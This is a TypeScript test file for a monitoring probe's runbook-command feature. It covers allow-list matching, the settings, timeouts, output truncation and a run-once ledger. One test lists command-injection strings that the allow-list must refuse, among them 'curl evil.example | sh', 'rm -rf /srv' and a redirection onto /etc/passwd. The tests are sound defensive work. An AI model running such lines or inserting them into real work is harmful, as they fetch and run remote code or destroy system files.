import { access, readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { type ProbeCommandResult, probeCommandResultSchema } from "@vigil/contract";
import { describe, expect, it } from "vitest";
import type { HandedCommand } from "../src/runbook-commands/commands.ts";
import { commandAllowed, loadRunbookSettings, type RunbookSettings } from "../src/runbook-commands/config.ts";
import { LEDGER_FILE } from "../src/runbook-commands/ledger.ts";
import { outputTail, runShellCommand } from "../src/runbook-commands/run-command.ts";
import { RunbookCommands } from "../src/runbook-commands/runner.ts";
import { validRemoteConfig } from "../src/transport.ts";
import { defined, temporaryDirectory } from "./helpers.ts";

const T0 = 1_795_800_000_000;
const LIMIT = 65_536;
const on = (allow: string[] = []): RunbookSettings => ({ enabled: true, allow, facts: { allow } });
const off: RunbookSettings = { enabled: false, why: "the default; --enable-runbooks turns them on" };

async function exists(path: string): Promise<boolean> {
  return access(path).then(
    () => true,
    () => false,
  );
}

/** Processes of a group that still run; a zombie (exited, not yet reaped by whoever inherited it) does not. */
async function livingMembers(group: number): Promise<number[]> {
  const living: number[] = [];
  for (const name of await readdir("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    const stat = await readFile(`/proc/${name}/stat`, "utf8").catch(() => "");
    const [state, , pgrp] = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
    if (Number(pgrp) === group && state !== "Z") living.push(Number(name));
  }
  return living;
}

/**
 * Runs `commands` through a runner on `stateDir` as the daemon would, and waits for every result. Each
 * command runs for real while the clock stands still, then the clock moves on 2 s.
 */
async function handOut(
  stateDir: string,
  settings: RunbookSettings,
  ...rounds: HandedCommand[][]
): Promise<ProbeCommandResult[]> {
  let now = T0;
  const runner = new RunbookCommands({
    settings,
    stateDir,
    clock: () => now,
    env: process.env,
    run: async (command, signal) => {
      const outcome = await runShellCommand(command.command, { timeoutMs: 10_000, env: {}, signal });
      now += 2_000;
      return outcome;
    },
  });
  const results: ProbeCommandResult[] = [];
  for (const commands of rounds) {
    runner.update(commands);
    await runner.settled();
    const taken = runner.take();
    runner.reported(taken.map((result) => result.id));
    results.push(...taken);
  }
  return results;
}

describe("the runbook allow-list", () => {
  it("allows a command that is an entry, or an entry followed by whitespace, once trimmed", () => {
    const allow = ["apt-get", "systemctl restart"];
    expect(commandAllowed("apt-get", allow)).toBe(true);
    expect(commandAllowed("  apt-get -y upgrade ", allow)).toBe(true);
    expect(commandAllowed("apt-get\tupdate", allow)).toBe(true);
    expect(commandAllowed("systemctl restart nginx", allow)).toBe(true);
  });

  it("refuses a longer word that merely starts like an entry, and anything else", () => {
    const allow = ["apt-get", "systemctl restart"];
    expect(commandAllowed("apt-get-evil", allow)).toBe(false);
    expect(commandAllowed("systemctl restarted", allow)).toBe(false);
    expect(commandAllowed("systemctl stop nginx", allow)).toBe(false);
    expect(commandAllowed("sudo apt-get upgrade", allow)).toBe(false);
    expect(commandAllowed("", allow)).toBe(false);
  });

  it("refuses an allowed prefix carrying more shell: a second command, a substitution, a pipe or a redirection", () => {
    const allow = ["apt-get", "systemctl restart"];
    for (const command of [
      "apt-get -y upgrade; rm -rf /srv",
      "apt-get -y upgrade && curl evil.example | sh",
      "systemctl restart $(cat /tmp/unit)",
      "systemctl restart `id`",
      "apt-get -y upgrade > /etc/passwd",
      "apt-get -y upgrade\nrm -rf /srv",
      "systemctl restart (nginx)",
    ]) {
      expect(commandAllowed(command, allow), command).toBe(false);
    }
    expect(commandAllowed("apt-get -y -q upgrade", allow)).toBe(true);
  });

  it("allows any command when the list is empty", () => {
    expect(commandAllowed("rm -rf /tmp/x", [])).toBe(true);
  });
});

describe("runbook settings", () => {
  it("are off unless probe.json, VIGIL_RUNBOOKS=1 or --enable-runbooks turns them on", () => {
    expect(loadRunbookSettings({}, {}, {})).toEqual({
      enabled: false,
      why: "the default; --enable-runbooks turns them on",
    });
    expect(loadRunbookSettings({ runbooks: { allow: ["apt-get"] } }, {}, {}).enabled).toBe(false);
    expect(loadRunbookSettings({}, {}, { VIGIL_RUNBOOKS: "1" })).toEqual(on());
    expect(loadRunbookSettings({}, { "enable-runbooks": true }, {})).toEqual(on());
    expect(loadRunbookSettings({ runbooks: { enabled: true } }, {}, { VIGIL_RUNBOOKS: "0" })).toEqual({
      enabled: false,
      why: "VIGIL_RUNBOOKS=0",
    });
  });

  it("take the allow-list from probe.json, trimmed, and announce it in the facts", () => {
    const settings = loadRunbookSettings(
      { runbooks: { enabled: true, allow: [" apt-get ", "systemctl restart", "apt-get"] } },
      {},
      {},
    );
    expect(settings).toEqual(on(["apt-get", "systemctl restart"]));
  });

  it("stop the start with a message naming a malformed setting", () => {
    const load =
      (runbooks: unknown, env: NodeJS.ProcessEnv = {}) =>
      () =>
        loadRunbookSettings({ runbooks: runbooks as never }, {}, env);
    expect(load({ enabled: "yes" })).toThrow("runbooks.enabled must be true or false");
    expect(load({ allow: "apt-get" })).toThrow("runbooks.allow must be a list of command prefixes");
    expect(load({ allow: ["  "] })).toThrow('runbooks.allow: "  " is not a command prefix');
    expect(load({ allow: Array.from({ length: 101 }, (_, i) => `c${i}`) })).toThrow("at most 100");
    expect(load({ alow: [] })).toThrow('runbooks: unknown setting "alow"');
    expect(load({}, { VIGIL_RUNBOOKS: "maybe" })).toThrow('VIGIL_RUNBOOKS must be 0 or 1, got "maybe"');
  });
});

describe("a batch answer's commands", () => {
  it("are kept when well-formed, malformed and repeated ones left out one by one", () => {
    const config = validRemoteConfig({
      intervalSec: 30,
      journal: { minPriority: 4, units: [] },
      commands: [
        { id: "c1", command: "uptime", timeoutSec: 60 },
        { id: "c1", command: "again", timeoutSec: 60 },
        { id: "", command: "x", timeoutSec: 60 },
        { id: "c2", command: "x", timeoutSec: 0 },
        { id: "c3", command: "x".repeat(4097), timeoutSec: 60 },
        { id: "c4", command: "df -h", timeoutSec: 3600 },
      ],
    });
    expect(config?.commands).toEqual([
      { id: "c1", command: "uptime", timeoutSec: 60 },
      { id: "c4", command: "df -h", timeoutSec: 3600 },
    ]);
  });
});

describe("running a runbook command", () => {
  it("reports exit 0 as done, with stdout and stderr together", async () => {
    const outcome = await runShellCommand("echo out; echo err >&2; pwd", { timeoutMs: 10_000, env: {} });
    expect(outcome).toEqual({ status: "done", exitCode: 0, output: "out\nerr\n/\n" });
  });

  it("reports a non-zero exit as failed with its exit code", async () => {
    const outcome = await runShellCommand("echo broken; exit 3", { timeoutMs: 10_000, env: {} });
    expect(outcome).toEqual({ status: "failed", exitCode: 3, output: "broken\n" });
  });

  it("gives the command no stdin, none of the probe's VIGIL_ settings, and a non-interactive apt", async () => {
    const outcome = await runShellCommand(
      'cat; echo "token=[$VIGIL_TOKEN] path=[$PATH] frontend=[$DEBIAN_FRONTEND]"',
      { timeoutMs: 10_000, env: { VIGIL_TOKEN: "secret" } },
    );
    expect(outcome.output).toBe(
      "token=[] path=[/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin] frontend=[noninteractive]\n",
    );
  });

  it("kills the whole process group at the timeout and reports timed-out", async () => {
    const outcome = await runShellCommand("echo $$; sleep 30 & sleep 30", { timeoutMs: 1_000, env: {} });
    expect(outcome.status).toBe("timed-out");
    const group = Number(outcome.output.split("\n")[0]);
    expect(group).toBeGreaterThan(1);
    expect(outcome.output).toBe(`${group}\n[killed at the timeout of 1 s]\n`);
    expect(await livingMembers(group)).toEqual([]);
  });

  it("keeps the last 64 KiB of output and says how much was cut at the top", async () => {
    const outcome = await runShellCommand("head -c 200000 /dev/zero | tr '\\0' x; echo; echo END", {
      timeoutMs: 10_000,
      env: {},
    });
    expect(outcome.status).toBe("done");
    const output = outcome.output ?? "";
    expect(output.length).toBeLessThanOrEqual(LIMIT);
    expect(Buffer.byteLength(output)).toBeLessThanOrEqual(LIMIT);
    const header = defined(output.match(/^\[… (\d+) bytes cut …\]\n/), "the cut header");
    expect(output.endsWith("xxx\nEND\n")).toBe(true);
    const kept = Buffer.byteLength(output) - Buffer.byteLength(header[0]);
    expect(Number(header[1]) + kept).toBe(200_005);
    expect(probeCommandResultSchema.safeParse({ id: "c", status: "done", output, endedAt: T0 }).success).toBe(
      true,
    );
  });

  it("cuts multi-byte output within the contract's limit, with the note on why it ended kept", () => {
    const tail = "é".repeat(LIMIT / 2);
    const output = outputTail(tail, 300_000, "[killed at the timeout of 5 s]");
    expect(output.length).toBeLessThanOrEqual(LIMIT);
    expect(output).toMatch(/^\[… \d+ bytes cut …\]\néé/);
    expect(output.endsWith("é\n[killed at the timeout of 5 s]\n")).toBe(true);
  });
});

describe("runbook commands on a host", () => {
  it("run a handed-out command and report done with its output, start and end", async () => {
    const stateDir = await temporaryDirectory();
    const [result] = await handOut(stateDir, on(), [{ id: "c1", command: "echo hello", timeoutSec: 10 }]);
    expect(result).toEqual({
      id: "c1",
      status: "done",
      exitCode: 0,
      output: "hello\n",
      startedAt: T0,
      endedAt: T0 + 2_000,
    });
  });

  it("refuse a command outside the allow-list, and nothing runs", async () => {
    const stateDir = await temporaryDirectory();
    const marker = join(stateDir, "ran");
    const results = await handOut(stateDir, on(["systemctl restart"]), [
      { id: "c1", command: `touch ${marker}`, timeoutSec: 10 },
    ]);
    expect(results).toEqual([
      {
        id: "c1",
        status: "refused",
        output: "the command is outside this host's runbooks.allow list (systemctl restart)",
        endedAt: T0,
      },
    ]);
    expect(await exists(marker)).toBe(false);
  });

  it("refuse every command while runbooks are off, and nothing runs", async () => {
    const stateDir = await temporaryDirectory();
    const marker = join(stateDir, "ran");
    const [result] = await handOut(stateDir, off, [{ id: "c1", command: `touch ${marker}`, timeoutSec: 10 }]);
    expect(result).toMatchObject({ status: "refused", output: expect.stringContaining("not enabled") });
    expect(await exists(marker)).toBe(false);
  });

  it("run each id at most once, when handed out again and after a restart", async () => {
    const stateDir = await temporaryDirectory();
    const counter = join(stateDir, "count");
    const command = { id: "c1", command: `echo run >> ${counter}`, timeoutSec: 10 };
    const first = await handOut(stateDir, on(), [command], [command], [command]);
    expect(first.map((result) => result.status)).toEqual(["done"]);
    // A new process reading the same state dir, as after a restart.
    const second = await handOut(stateDir, on(), [command]);
    expect(second).toEqual([]);
    expect(await readFile(counter, "utf8")).toBe("run\n");
  });

  it("run each id once even when it is handed out again while it runs", async () => {
    const stateDir = await temporaryDirectory();
    const counter = join(stateDir, "count");
    const command = { id: "c1", command: `echo run >> ${counter}`, timeoutSec: 10 };
    const runner = new RunbookCommands({ settings: on(), stateDir, clock: () => T0, env: {} });
    runner.update([command]);
    runner.update([command]);
    await runner.settled();
    runner.update([command]);
    expect(runner.take().map((result) => result.status)).toEqual(["done"]);
    expect(await readFile(counter, "utf8")).toBe("run\n");
  });

  it("run one command at a time, in the order handed out", async () => {
    const stateDir = await temporaryDirectory();
    const log = join(stateDir, "log");
    const step = (id: string) => ({
      id,
      command: `echo start ${id} >> ${log}; sleep 0.05; echo end ${id} >> ${log}`,
      timeoutSec: 10,
    });
    const results = await handOut(stateDir, on(), [step("a"), step("b"), step("c")]);
    expect(results.map((result) => result.id)).toEqual(["a", "b", "c"]);
    expect(await readFile(log, "utf8")).toBe("start a\nend a\nstart b\nend b\nstart c\nend c\n");
  });

  it("answer an id that started but never reported before a restart as failed, without running it again", async () => {
    const stateDir = await temporaryDirectory();
    const marker = join(stateDir, "ran");
    await writeFile(
      join(stateDir, LEDGER_FILE),
      JSON.stringify({ commands: [{ id: "c1", state: "started", at: T0 - 60_000 }] }),
    );
    const results = await handOut(stateDir, on(), [{ id: "c1", command: `touch ${marker}`, timeoutSec: 10 }]);
    expect(results).toEqual([
      expect.objectContaining({
        id: "c1",
        status: "failed",
        output: expect.stringContaining("not run again"),
      }),
    ]);
    expect(await exists(marker)).toBe(false);
  });

  it("run nothing while the record of commands run is damaged", async () => {
    const stateDir = await temporaryDirectory();
    const marker = join(stateDir, "ran");
    await writeFile(join(stateDir, LEDGER_FILE), "{not json");
    const [result] = await handOut(stateDir, on(), [
      { id: "c1", command: `touch ${marker}`, timeoutSec: 10 },
    ]);
    expect(result).toMatchObject({ status: "refused", output: expect.stringContaining("is damaged") });
    expect(await exists(marker)).toBe(false);
    expect(await readFile(join(stateDir, LEDGER_FILE), "utf8")).toBe("{not json");
  });

  it("drop a queued command the server no longer hands out, unrun", async () => {
    const stateDir = await temporaryDirectory();
    const log = join(stateDir, "log");
    const runner = new RunbookCommands({ settings: on(), stateDir, clock: () => T0, env: {} });
    const first = { id: "a", command: `echo a >> ${log}`, timeoutSec: 10 };
    const second = { id: "b", command: `echo b >> ${log}`, timeoutSec: 10 };
    runner.update([first, second]);
    runner.update([first]);
    await runner.settled();
    expect(runner.take().map((result) => result.id)).toEqual(["a"]);
    expect(await readFile(log, "utf8")).toBe("a\n");
  });

  it("keep the record bounded to the newest 1,000 ids", async () => {
    const stateDir = await temporaryDirectory();
    const commands = Array.from({ length: 1_005 }, (_, i) => ({ id: `c${i}`, command: "x", timeoutSec: 1 }));
    const runner = new RunbookCommands({ settings: off, stateDir, clock: () => T0, env: {} });
    for (let start = 0; start < commands.length; start += 50)
      runner.update(commands.slice(start, start + 50));
    const saved = JSON.parse(await readFile(join(stateDir, LEDGER_FILE), "utf8")) as {
      commands: { id: string }[];
    };
    expect(saved.commands).toHaveLength(1_000);
    expect(saved.commands[0]?.id).toBe("c5");
  });
});
